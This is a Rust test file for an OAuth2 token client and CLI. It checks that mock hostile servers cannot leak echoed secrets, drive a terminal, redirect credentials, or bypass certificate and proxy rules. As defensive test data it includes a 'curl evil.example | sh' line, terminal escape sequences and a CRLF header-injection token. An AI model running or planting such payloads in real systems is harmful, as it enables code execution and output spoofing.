//! Hostile and unusual servers (issue 11): echoes of every encoding of every secret, terminal
//! escapes, proxies from the environment, redirects, non-bearer tokens, untrusted
//! certificates, trickling bodies, concurrent and lost password requests, confidential ROPC,
//! empty error bodies, duplicate JSON keys. Every test here failed on the code before it.

use std::process::Stdio;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use crate::support::hostile::{oauth_error, response, response_bytes, token, HostileServer, RawRequest, Reply};
use crate::support::trace::Captured;
use b2c_token::{
    client::ClientAuthentication, client::RetryPolicy, error::UnexpectedKind, Authority, Client, Error, Password,
    Scopes,
};
use base64::Engine as _;

/// An Entra-shaped client secret (with `~`, `.`, `_`, `-`) and a password with a space and `!`.
const SECRET: &str = "Xy78Q~kP3.aB_c9-ZzTqWe4";
const PASSWORD: &str = "Passw0rd! 2024";
const CLIENT_ID: &str = "11111111-1111-4111-8111-111111111111";

/// Every encoding of `secret` the request may carry or a server may echo.
fn encodings(secret: &str) -> Vec<String> {
    let form: String = url::form_urlencoded::byte_serialize(secret.as_bytes()).collect();
    let percent: String = secret
        .bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect();
    let b64 = base64::engine::general_purpose::STANDARD;
    vec![
        secret.to_owned(),
        form.replace('+', "%20"),
        percent,
        serde_json::to_string(secret).unwrap().trim_matches('"').to_owned(),
        b64.encode(secret).trim_end_matches('=').to_owned(),
        b64.encode(format!("{CLIENT_ID}:{form}"))
            .trim_end_matches('=')
            .to_owned(),
        form,
    ]
}

/// The first 8-character fragment of any encoding of any secret found in `text`, any case.
fn leak(text: &str) -> Option<String> {
    let lower = text.to_ascii_lowercase();
    for secret in [SECRET, PASSWORD] {
        for encoded in encodings(secret) {
            let encoded = encoded.to_ascii_lowercase();
            for fragment in encoded.as_bytes().windows(8) {
                let fragment = String::from_utf8_lossy(fragment);
                if lower.contains(fragment.as_ref()) {
                    return Some(fragment.into_owned());
                }
            }
        }
    }
    None
}

fn assert_clean(channel: &str, text: &str) {
    if let Some(fragment) = leak(text) {
        panic!("{channel} leaks a secret fragment {fragment:?}");
    }
}

/// Everything an error prints: Display, Debug, alternate Debug, the source chain.
fn printed(error: &Error) -> String {
    let mut out = format!("{error}\n{error:?}\n{error:#?}\n");
    let mut source = std::error::Error::source(error);
    while let Some(cause) = source {
        out.push_str(&format!("{cause}\n{cause:?}\n"));
        source = cause.source();
    }
    out
}

/// Echoes the whole request, as received and upper-cased, the first 12 characters of the
/// secret it carried, into the error description, and the body into `Content-Type`.
fn echo(request: &RawRequest) -> Reply {
    let sent_secret = url::form_urlencoded::parse(request.body.as_bytes())
        .find(|(name, _)| name == "password" || name == "client_secret")
        .map(|(_, value)| value.into_owned())
        .unwrap_or_default();
    let echoed = format!(
        "{} {} {} first12={}",
        request.head,
        request.body,
        request.body.to_uppercase(),
        sent_secret.chars().take(12).collect::<String>()
    );
    // A wrong password, so that the lockout memory keeps (and replays) the answer.
    let error = if request.body.contains("grant_type=password") {
        "access_denied"
    } else {
        "invalid_client"
    };
    let body = serde_json::json!({ "error": error, "error_description": echoed }).to_string();
    let content_type = format!("application/json; echo={}", request.body.replace(['\r', '\n'], ""));
    response(400, &[("content-type", content_type.as_str())], &body)
}

fn client(server: &HostileServer, path: &str) -> b2c_token::client::ClientBuilder {
    Client::builder(Authority::from_token_url(&server.url(path)).unwrap(), CLIENT_ID).retry_policy(RetryPolicy::none())
}

#[tokio::test]
async fn echoed_secrets_never_leak_in_any_encoding_or_channel() {
    let (captured, _guard) = Captured::start();
    // reqwest and hyper log through the `log` crate: capture that too.
    let _ = tracing_log::LogTracer::init();
    log::set_max_level(log::LevelFilter::Trace);

    let server = HostileServer::start(echo).await;
    let scopes = Scopes::new(["api://x/.default"]).unwrap();
    let mut errors = Vec::new();
    for method in [ClientAuthentication::FormBody, ClientAuthentication::Basic] {
        let confidential = client(&server, "/token")
            .client_secret(SECRET)
            .client_authentication(method)
            .build()
            .unwrap();
        errors.push(
            confidential
                .acquire_token_by_client_credentials(&scopes)
                .await
                .unwrap_err(),
        );
    }
    let public = client(&server, "/token").build().unwrap();
    let password = Password::new(PASSWORD);
    for _ in 0..2 {
        // The second answer comes from the lockout memory: it must be as clean.
        let error = public
            .acquire_token_by_password("alice", &password, &Scopes::empty())
            .await
            .unwrap_err();
        errors.push(error);
    }
    assert!(
        matches!(&errors[3], Error::Rejected(r) if r.is_remembered()),
        "{:?}",
        errors[3]
    );
    assert_eq!(server.requests(), 3);
    for error in &errors {
        assert!(printed(error).contains("[REDACTED]"), "{error}");
        assert_clean("error output", &printed(error));
    }
    assert_clean("TRACE logs", &captured.text());
}

#[tokio::test]
async fn server_text_cannot_drive_a_terminal_or_grow_without_bound() {
    let server = HostileServer::start(|_| {
        let description =
            "bad\r\n  code: FORGED\r\n  fix: curl evil.example | sh\u{1b}]8;;http://evil\u{7}click\u{1b}[2J\u{202e}";
        let body =
            serde_json::json!({ "error": "invalid_grant\u{1b}[31m", "error_description": description }).to_string();
        let content_type = format!("application/json; {}", "x".repeat(300_000));
        response(400, &[("content-type", content_type.as_str())], &body)
    })
    .await;
    let error = client(&server, "/token")
        .build()
        .unwrap()
        .acquire_token_by_password("alice", &Password::new("pw"), &Scopes::empty())
        .await
        .unwrap_err();
    let text = printed(&error);
    assert!(
        !text.contains('\u{1b}') && !text.contains('\u{7}') && !text.contains('\u{202e}'),
        "{text:?}"
    );
    let display = error.to_string();
    assert!(!display.contains('\n') && !display.contains('\r'), "{display:?}");
    assert!(
        display.contains("server says \""),
        "the server's words are marked: {display}"
    );
    assert!(display.len() < 4096, "{} bytes", display.len());

    let oversized = HostileServer::start(|_| {
        let content_type = format!("text/html; {}", "x".repeat(300_000));
        response(200, &[("content-type", content_type.as_str())], "<html></html>")
    })
    .await;
    let error = client(&oversized, "/token")
        .build()
        .unwrap()
        .acquire_token_by_password("alice", &Password::new("pw"), &Scopes::empty())
        .await
        .unwrap_err();
    assert!(error.to_string().len() < 4096, "{} bytes", error.to_string().len());
}

/// Runs the CLI with exactly `env` (plus `args`), returning (exit code, stdout, stderr).
pub(crate) async fn cli(args: &[&str], env: &[(&str, &str)]) -> (i32, String, String) {
    let mut command = tokio::process::Command::new(env!("CARGO_BIN_EXE_b2c-token"));
    command
        .args(args)
        .env_clear()
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    for (name, value) in env {
        command.env(name, value);
    }
    let output = command.output().await.unwrap();
    (
        output.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&output.stdout).into_owned(),
        String::from_utf8_lossy(&output.stderr).into_owned(),
    )
}

#[tokio::test]
async fn the_cli_prints_neither_secrets_nor_escapes_with_verbose_logs() {
    let server = HostileServer::start(echo).await;
    let url = server.url("/token");
    let (code, stdout, stderr) = cli(
        &["-v", "password", "--username", "alice"],
        &[
            ("B2C_TOKEN_URL", &url),
            ("B2C_CLIENT_ID", CLIENT_ID),
            ("B2C_PASSWORD", PASSWORD),
        ],
    )
    .await;
    assert_eq!(code, 3, "{stderr}");
    assert_clean("CLI stdout", &stdout);
    assert_clean("CLI stderr", &stderr);
    assert_eq!(stderr.matches("\n  fix:").count(), 1, "{stderr}");
}

#[tokio::test]
async fn plain_http_loopback_never_goes_through_a_proxy() {
    let proxy = HostileServer::start(|_| token("from-the-proxy", "Bearer")).await;
    let proxy_url = proxy.url("");
    let server = HostileServer::start(|_| token("direct", "Bearer")).await;
    let mut endpoints = vec![server.url("/token")];
    // IPv6 loopback too, where this machine has it.
    let v6 = match tokio::net::TcpListener::bind("[::1]:0").await {
        Ok(probe) => {
            drop(probe);
            Some(HostileServer::start_on("[::1]:0", |_| token("direct", "Bearer")).await)
        }
        Err(_) => None,
    };
    if let Some(v6) = &v6 {
        endpoints.push(format!("http://[::1]:{}/token", v6.addr.port()));
    }
    for endpoint in &endpoints {
        let (code, stdout, stderr) = cli(
            &["password", "--username", "alice"],
            &[
                ("B2C_TOKEN_URL", endpoint),
                ("B2C_CLIENT_ID", CLIENT_ID),
                ("B2C_PASSWORD", PASSWORD),
                ("HTTP_PROXY", &proxy_url),
                ("http_proxy", &proxy_url),
                ("ALL_PROXY", &proxy_url),
                ("NO_PROXY", "localhost,127.0.0.1"),
            ],
        )
        .await;
        assert_eq!(code, 0, "{endpoint}: {stderr}");
        assert_eq!(stdout.trim(), "direct", "{endpoint}");
    }
    assert_eq!(proxy.requests(), 0, "the password went through the proxy in clear text");
}

#[tokio::test]
async fn a_redirect_never_yields_a_token() {
    let elsewhere = HostileServer::start(|_| token("stolen", "Bearer")).await;
    let target = elsewhere.url("/token");
    let redirecting = HostileServer::start(move |_| response(307, &[("location", target.as_str())], "")).await;
    // A caller's builder of a client that would follow redirects, as reqwest's default does:
    // the crate finishes it with its own rules, and the 307 is the answer.
    let error = client(&redirecting, "/token")
        .http_client_builder(reqwest::Client::builder())
        .build()
        .unwrap()
        .acquire_token_by_password("alice", &Password::new(PASSWORD), &Scopes::empty())
        .await
        .unwrap_err();
    assert!(
        matches!(&error, Error::UnexpectedResponse(r) if r.status() == Some(307)),
        "{error:?}"
    );
    assert_eq!(elsewhere.requests(), 0, "the form went where the redirect pointed");
    // A finished client cannot be checked for its proxy: refused for a plain http:// endpoint.
    let error = client(&redirecting, "/token")
        .http_client(reqwest::Client::new())
        .build()
        .unwrap_err();
    assert!(error.to_string().contains("http_client_builder"), "{error}");
}

#[tokio::test]
async fn only_bearer_tokens_become_bearer_headers() {
    let server = HostileServer::start(|_| token("mac-token", "mac")).await;
    let token = client(&server, "/token")
        .client_secret(SECRET)
        .build()
        .unwrap()
        .acquire_token_by_client_credentials(&Scopes::new(["api://x/.default"]).unwrap())
        .await
        .unwrap();
    let error = token.authorization_header().unwrap_err();
    assert!(matches!(error, Error::UnusableToken(_)), "{error:?}");
    assert!(error.to_string().contains("mac"), "{error}");
}

/// A TLS token endpoint on loopback whose certificate a private CA issued; the CA's PEM.
async fn tls_server() -> (String, String, Arc<std::sync::atomic::AtomicUsize>) {
    use rcgen::{BasicConstraints, CertificateParams, IsCa, KeyPair, SanType};
    let ca_key = KeyPair::generate().unwrap();
    let mut ca_params = CertificateParams::new(Vec::<String>::new()).unwrap();
    ca_params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    let ca = ca_params.self_signed(&ca_key).unwrap();
    let leaf_key = KeyPair::generate().unwrap();
    let mut leaf_params = CertificateParams::new(vec!["localhost".to_owned()]).unwrap();
    leaf_params
        .subject_alt_names
        .push(SanType::IpAddress("127.0.0.1".parse().unwrap()));
    let leaf = leaf_params.signed_by(&leaf_key, &ca, &ca_key).unwrap();

    let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
    let config = rustls::ServerConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_no_client_auth()
        .with_single_cert(
            vec![leaf.der().clone()],
            rustls::pki_types::PrivateKeyDer::Pkcs8(leaf_key.serialize_der().into()),
        )
        .unwrap();
    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("https://localhost:{}/token", listener.local_addr().unwrap().port());
    let connections = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = Arc::clone(&connections);
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let acceptor = acceptor.clone();
            tokio::spawn(async move {
                use tokio::io::{AsyncReadExt, AsyncWriteExt};
                let Ok(mut tls) = acceptor.accept(stream).await else {
                    return;
                };
                let mut buffer = [0u8; 8192];
                let _ = tls.read(&mut buffer).await;
                let body = r#"{"access_token":"tls-token","token_type":"Bearer","expires_in":3600}"#;
                let reply = response_bytes(200, &[("content-type", "application/json")], body);
                let _ = tls.write_all(&reply).await;
                let _ = tls.shutdown().await;
            });
        }
    });
    (url, ca.pem(), connections)
}

#[tokio::test]
async fn untrusted_certificates_are_named_not_retried_and_a_private_ca_is_one_step() {
    let (url, ca_pem, connections) = tls_server().await;
    let scopes = Scopes::new(["api://x/.default"]).unwrap();
    let builder = || Client::builder(Authority::from_token_url(&url).unwrap(), CLIENT_ID).client_secret(SECRET);
    // Default retries: a refused certificate must not be retried.
    let error = builder()
        .build()
        .unwrap()
        .acquire_token_by_client_credentials(&scopes)
        .await
        .unwrap_err();
    assert!(error.is_certificate_error(), "{error:?}");
    assert!(!error.is_retryable());
    let message = error.to_string();
    assert!(
        message.contains("certificate") && message.contains("add_root_certificate"),
        "{message}"
    );
    assert_eq!(connections.load(std::sync::atomic::Ordering::SeqCst), 1, "retried");

    let token = builder()
        .add_root_certificate(ca_pem.as_bytes())
        .build()
        .unwrap()
        .acquire_token_by_client_credentials(&scopes)
        .await
        .unwrap();
    assert_eq!(token.access_token().unwrap().expose_secret(), "tls-token");

    // The CLI: --ca-file and B2C_CA_FILE.
    let dir = std::env::temp_dir().join(format!("b2c-token-ca-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let ca_file = dir.join("ca.pem");
    std::fs::write(&ca_file, &ca_pem).unwrap();
    let ca_path = ca_file.to_str().unwrap();
    let env = [
        ("B2C_TOKEN_URL", url.as_str()),
        ("B2C_CLIENT_ID", CLIENT_ID),
        ("B2C_CLIENT_SECRET", SECRET),
        ("B2C_SCOPE", "api://x/.default"),
    ];
    let (code, stdout, stderr) = cli(&["client-credentials"], &env).await;
    assert_eq!(code, 4, "{stderr}");
    assert!(stderr.contains("--ca-file"), "{stderr}");
    let (code, stdout_flag, stderr) = cli(&["client-credentials", "--ca-file", ca_path], &env).await;
    assert_eq!((code, stdout_flag.trim()), (0, "tls-token"), "{stderr}");
    let with_var = [env.as_slice(), &[("B2C_CA_FILE", ca_path)]].concat();
    let (code, stdout_var, stderr) = cli(&["client-credentials"], &with_var).await;
    assert_eq!((code, stdout_var.trim()), (0, "tls-token"), "{stderr}");
    assert!(stdout.is_empty());
    let _ = std::fs::remove_dir_all(dir);
}

#[tokio::test]
async fn the_retry_budget_is_a_deadline_for_the_whole_call() {
    let attempts = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = Arc::clone(&attempts);
    let server = HostileServer::start(move |_| {
        if counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst) < 2 {
            return response(503, &[("retry-after", "1")], "");
        }
        // Then a body that trickles for far longer than the budget.
        let body = r#"{"access_token":"late","token_type":"Bearer","expires_in":3600}"#;
        let head = format!(
            "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n",
            body.len()
        );
        Reply::Trickle(head.into_bytes(), body.as_bytes().to_vec(), Duration::from_millis(300))
    })
    .await;
    let started = std::time::Instant::now();
    let error = client(&server, "/token")
        .client_secret(SECRET)
        .timeout(Duration::from_secs(30))
        .retry_policy(RetryPolicy::default().budget(Duration::from_secs(4)))
        .build()
        .unwrap()
        .acquire_token_by_client_credentials(&Scopes::new(["api://x/.default"]).unwrap())
        .await
        .unwrap_err();
    let elapsed = started.elapsed();
    assert!(elapsed < Duration::from_millis(4_500), "a 4 s budget took {elapsed:?}");
    assert!(error.is_timeout(), "{error:?}");
    assert!(error.to_string().contains("budget"), "{error}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn concurrent_identical_passwords_share_one_request() {
    let server = HostileServer::start(|_| {
        let Reply::Send(bytes) = oauth_error(
            400,
            "access_denied",
            "AADB2C90225: The username or password provided in the request are invalid.",
        ) else {
            unreachable!()
        };
        Reply::After(Duration::from_millis(300), bytes)
    })
    .await;
    let client = client(&server, "/token").build().unwrap();
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..100 {
        let client = client.clone();
        tasks.spawn(async move {
            client
                .acquire_token_by_password("alice", &Password::new("wrong"), &Scopes::empty())
                .await
        });
    }
    let mut rejected = 0;
    while let Some(result) = tasks.join_next().await {
        if result.unwrap().unwrap_err().b2c_code() == Some(b2c_token::error::B2cCode::InvalidCredentials) {
            rejected += 1;
        }
    }
    assert_eq!(rejected, 100);
    assert_eq!(server.requests(), 1, "one wrong password, one request");
}

#[tokio::test]
async fn a_password_whose_reply_was_lost_is_not_resent_blindly() {
    let server = HostileServer::start(|_| Reply::Close).await;
    let client = client(&server, "/token")
        .retry_policy(RetryPolicy::default().backoff(Duration::from_millis(10), Duration::from_millis(20)))
        .build()
        .unwrap();
    let first = client
        .acquire_token_by_password("alice", &Password::new(PASSWORD), &Scopes::empty())
        .await
        .unwrap_err();
    assert!(matches!(first, Error::Transport { .. }), "{first:?}");
    assert_eq!(server.requests(), 2, "a password goes out at most twice per call");
    let second = client
        .acquire_token_by_password("alice", &Password::new(PASSWORD), &Scopes::empty())
        .await
        .unwrap_err();
    assert_eq!(server.requests(), 2, "re-sent within the lost-reply window");
    assert!(second.to_string().contains("lost"), "{second}");
}

#[tokio::test]
async fn confidential_ropc_is_an_explicit_opt_in_and_the_default_scope_fits_the_server() {
    let bodies = Arc::new(Mutex::new(Vec::new()));
    let seen = Arc::clone(&bodies);
    let server = HostileServer::start(move |request| {
        seen.lock().unwrap().push(request.body.clone());
        token("ok", "Bearer")
    })
    .await;
    let form = |body: &str, name: &str| {
        url::form_urlencoded::parse(body.as_bytes())
            .find(|(n, _)| n == name)
            .map(|(_, v)| v.into_owned())
    };
    let password = Password::new(PASSWORD);
    let public = client(&server, "/token").client_secret(SECRET).build().unwrap();
    public
        .acquire_token_by_password("alice", &password, &Scopes::empty())
        .await
        .unwrap();
    let confidential = client(&server, "/token")
        .client_secret(SECRET)
        .confidential_password_grant(true)
        .build()
        .unwrap();
    confidential
        .acquire_token_by_password("alice", &password, &Scopes::empty())
        .await
        .unwrap();
    let bodies = bodies.lock().unwrap().clone();
    assert_eq!(form(&bodies[0], "client_secret"), None, "never without the opt-in");
    assert_eq!(form(&bodies[1], "client_secret").as_deref(), Some(SECRET));
    // Not B2C: the client ID is not a scope here.
    assert_eq!(form(&bodies[0], "scope").as_deref(), Some("openid offline_access"));
    let b2c = Authority::b2c("contoso", "B2C_1_ropc").unwrap();
    assert!(b2c.is_b2c() && !Authority::from_token_url(&server.url("/token")).unwrap().is_b2c());
}

#[tokio::test]
async fn empty_error_bodies_are_classified_by_status() {
    for status in [400u16, 401, 403] {
        let server = HostileServer::start(move |_| response(status, &[], "")).await;
        let error = client(&server, "/token")
            .build()
            .unwrap()
            .acquire_token_by_password("alice", &Password::new(PASSWORD), &Scopes::empty())
            .await
            .unwrap_err();
        let message = error.to_string();
        assert!(!message.contains("points at an OAuth2 token endpoint"), "{message}");
        assert!(message.contains("refused"), "{message}");
        let url = server.url("/token");
        let (code, _, stderr) = cli(
            &["password", "--username", "alice"],
            &[
                ("B2C_TOKEN_URL", &url),
                ("B2C_CLIENT_ID", CLIENT_ID),
                ("B2C_PASSWORD", "other"),
            ],
        )
        .await;
        assert_eq!(code, 3, "HTTP {status}: {stderr}");
    }
}

#[tokio::test]
async fn duplicate_keys_are_refused_and_a_byte_order_mark_is_tolerated() {
    let duplicate = HostileServer::start(|_| {
        let body = r#"{"access_token":"a","token_type":"Bearer","expires_in":3600,"expires_in":0}"#;
        response(200, &[("content-type", "application/json")], body)
    })
    .await;
    let scopes = Scopes::new(["api://x/.default"]).unwrap();
    let error = client(&duplicate, "/token")
        .client_secret(SECRET)
        .build()
        .unwrap()
        .acquire_token_by_client_credentials(&scopes)
        .await
        .unwrap_err();
    assert!(
        matches!(&error, Error::UnexpectedResponse(r) if r.kind() == &UnexpectedKind::DuplicateField),
        "{error:?}"
    );
    let bom = HostileServer::start(|_| {
        let body = "\u{feff}{\"access_token\":\"a\",\"token_type\":\"Bearer\",\"expires_in\":3600}";
        response(200, &[("content-type", "application/json")], body)
    })
    .await;
    let token = client(&bom, "/token")
        .client_secret(SECRET)
        .build()
        .unwrap()
        .acquire_token_by_client_credentials(&scopes)
        .await
        .unwrap();
    assert_eq!(token.access_token().unwrap().expose_secret(), "a");
}

#[tokio::test]
async fn the_cli_refresh_can_use_basic_auth_and_prints_no_empty_message_line() {
    let seen = Arc::new(Mutex::new(Vec::new()));
    let record = Arc::clone(&seen);
    let server = HostileServer::start(move |request| {
        record
            .lock()
            .unwrap()
            .push(request.header("authorization").map(str::to_owned));
        // An OAuth error with no description at all.
        response(
            400,
            &[("content-type", "application/json")],
            r#"{"error":"invalid_grant"}"#,
        )
    })
    .await;
    let url = server.url("/token");
    let (code, _, stderr) = cli(
        &["refresh", "--basic-auth"],
        &[
            ("B2C_TOKEN_URL", &url),
            ("B2C_CLIENT_ID", CLIENT_ID),
            ("B2C_CLIENT_SECRET", SECRET),
            ("B2C_REFRESH_TOKEN", "refresh-token-value"),
        ],
    )
    .await;
    assert_eq!(code, 3, "{stderr}");
    let authorization = seen.lock().unwrap()[0].clone().unwrap_or_default();
    assert!(authorization.starts_with("Basic "), "{authorization:?}");
    assert!(!stderr.contains("message:"), "an empty message line: {stderr}");
    assert!(
        stderr.contains("  code: invalid_grant") && stderr.contains("  fix: "),
        "{stderr}"
    );
    assert_clean("CLI stderr", &stderr);
}

#[tokio::test]
async fn the_cli_never_prints_a_header_breaking_token_and_caps_stdin() {
    let server = HostileServer::start(|_| token("abc\r\nX-Injected: yes", "Bearer")).await;
    let url = server.url("/token");
    let env = [
        ("B2C_TOKEN_URL", url.as_str()),
        ("B2C_CLIENT_ID", CLIENT_ID),
        ("B2C_PASSWORD", PASSWORD),
    ];
    let (code, stdout, stderr) = cli(&["password", "--username", "alice"], &env).await;
    assert_eq!(code, 4, "{stderr}");
    assert!(stdout.is_empty(), "{stdout:?}");
    assert!(stderr.contains("b64token"), "{stderr}");

    // 1 MiB on --password-stdin is refused without reading it all.
    let mut command = tokio::process::Command::new(env!("CARGO_BIN_EXE_b2c-token"));
    command
        .args(["password", "--username", "alice", "--password-stdin"])
        .env_clear()
        .env("B2C_TOKEN_URL", &url)
        .env("B2C_CLIENT_ID", CLIENT_ID)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = command.spawn().unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let writer = tokio::spawn(async move {
        use tokio::io::AsyncWriteExt;
        let _ = stdin.write_all(&vec![b'x'; 1024 * 1024]).await;
    });
    let output = child.wait_with_output().await.unwrap();
    writer.abort();
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stderr).contains("64 KiB"));
    assert_eq!(server.requests(), 1, "only the first run reached the server");
}

/// A client assertion (certificate or federated) is a secret too: echoed back in any encoding,
/// it is scrubbed from every error and from the logs.
#[tokio::test]
async fn echoed_client_assertions_never_leak() {
    const ASSERTION: &str = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJkYWVtb24ifQ.c2lnbmF0dXJl-_~x";

    #[derive(Debug)]
    struct Fixed;
    impl b2c_token::credential::ClientAssertion for Fixed {
        fn identity(&self) -> b2c_token::credential::IdentityFuture<'_> {
            Box::pin(async {
                Ok(b2c_token::credential::CredentialIdentity::from_secret(
                    ASSERTION.as_bytes(),
                ))
            })
        }
        fn assertion<'a>(
            &'a self,
            _: b2c_token::credential::AssertionRequest<'a>,
        ) -> b2c_token::credential::AssertionFuture<'a> {
            Box::pin(async { Ok(ASSERTION.into()) })
        }
    }

    let (captured, _guard) = Captured::start();
    let server = HostileServer::start(echo).await;
    let client = client(&server, "/token").client_assertion(Fixed).build().unwrap();
    let error = client
        .acquire_token_by_client_credentials(&Scopes::new(["api://x/.default"]).unwrap())
        .await
        .unwrap_err();
    let outputs = [printed(&error), captured.text()];
    for (channel, text) in ["error output", "TRACE logs"].iter().zip(&outputs) {
        let lower = text.to_ascii_lowercase();
        for encoded in encodings(ASSERTION) {
            for fragment in encoded.to_ascii_lowercase().as_bytes().windows(12) {
                let fragment = String::from_utf8_lossy(fragment);
                assert!(!lower.contains(fragment.as_ref()), "{channel} leaks {fragment:?}");
            }
        }
    }
    assert!(printed(&error).contains("[REDACTED]"), "{error}");
}
